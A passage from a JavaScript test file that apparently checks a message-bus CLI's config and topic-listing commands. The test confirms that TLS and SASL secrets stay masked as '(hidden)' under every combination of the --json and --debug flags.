        tls: { ca: 'plain:no pem', keyPassphrase: SECRET },
        sasl: { mechanism: 'SCRAM-SHA-256', username: 'alice', password: SECRET },
      },
    },
  })
  for (const argv of [[], ['--json'], ['--debug'], ['--json', '--debug']]) {
    const shown = await run(ConfigCommand, argv)
    expect(shown.stdout).toContain('(hidden)')
    expect(shown.stdout + shown.stderr).not.toContain(SECRET)
    const listed = await run(TopicsList, argv, {}, { openBus: connect })
    expect(listed.exitCode).toBe(2)
    expect(listed.stdout + listed.stderr).not.toContain(SECRET)
  }
})
